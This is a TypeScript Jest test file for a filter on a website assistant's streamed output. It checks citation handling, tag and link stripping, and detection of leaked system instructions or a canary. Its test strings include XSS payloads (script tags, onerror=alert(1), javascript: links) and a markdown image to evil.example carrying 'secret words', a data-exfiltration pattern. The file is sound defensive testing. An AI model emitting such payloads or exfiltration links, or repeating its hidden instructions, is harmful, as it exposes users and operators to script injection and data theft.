import { describe, expect, test } from '@jest/globals'

import { createTextGuard } from '../../../../src/modules/assistant/upstream/createTextGuard.js'

const canary = 'c0ffee1234'
const instructions = 'You answer visitors of a website from its published content.'

/** The text as a reader sees it, whatever chunks it came in. */
function guarded(text: string, size: number) {
  const guard = createTextGuard({ sources: 2, links: ['/courses/one'], canary, instructions })
  let shown = ''
  for (let start = 0; start < text.length; start += size) {
    shown += guard.push(text.slice(start, start + size))
  }
  return { shown: shown + guard.end(), invented: guard.invented() }
}

describe.each([1, 3, 7, 1_000])('in pieces of %i characters', (size) => {
  test.each([
    ['keeps plain text and known citations', 'Yes [1], and no [2].', 'Yes [1], and no [2].'],
    ['drops unknown citations', 'Yes [3] and [0].', 'Yes  and .'],
    ['splits lists of citations', 'Yes [1, 2, 9].', 'Yes [1][2].'],
    ['removes tags', 'a <script src="x y">alert</script> b', 'a alert b'],
    ['removes a tag that never ends', 'a <img src=x onerror=alert(1) ', 'a '],
    ['removes images', 'a ![pixel](https://evil.example/?q=secret words) b', 'a  b'],
    ['keeps links to sources', 'See [this](/courses/one).', 'See [this](/courses/one).'],
    ['leaves only the words of other links', 'See [this](https://evil.example/a).', 'See this.'],
    ['removes bare addresses', 'Go to https://evil.example/a b', 'Go to  b'],
    ['removes scripts in links', '[x](javascript:alert(1)) y', 'x) y'],
    ['keeps comparisons', 'if a < b and c > d then', 'if a < b and c > d then'],
  ])('%s', (_, text, expected) => {
    expect(guarded(text, size).shown).toBe(expected)
  })

  test('counts the citations of what there is not', () => {
    expect(guarded('One [1] two [2] three [7].', size).invented).toBe(1)
  })

  test.each([
    instructions,
    `Sure! ${instructions.toUpperCase()}`,
    'You  answer\nvisitors\u200b of **a website** from its',
    'Y o u a n s w e r v i s i t o r s o f a w e b s i t e',
    'We open at nine [1]. My orders: “answer visitors of a website from its”, they say.',
  ])('shows nothing of instructions that are repeated: %j', (text) => {
    const guard = createTextGuard({ sources: 2, links: [], canary, instructions })
    let shown = ''
    const say = () => {
      for (let start = 0; start < text.length; start += size) {
        shown += guard.push(text.slice(start, start + size))
      }
    }
    expect(say).toThrow('leaked')
    expect(shown).not.toMatch(/answer|visitors|y o u/i)
  })

  test('stops when the instructions leak, and shows nothing of the mark', () => {
    expect(() => guarded(`My rules are <<${canary} source`, size)).toThrow('leaked')
    expect(() => guarded(`My rules are c0ffee 1234`, size)).toThrow('leaked')
  })
})
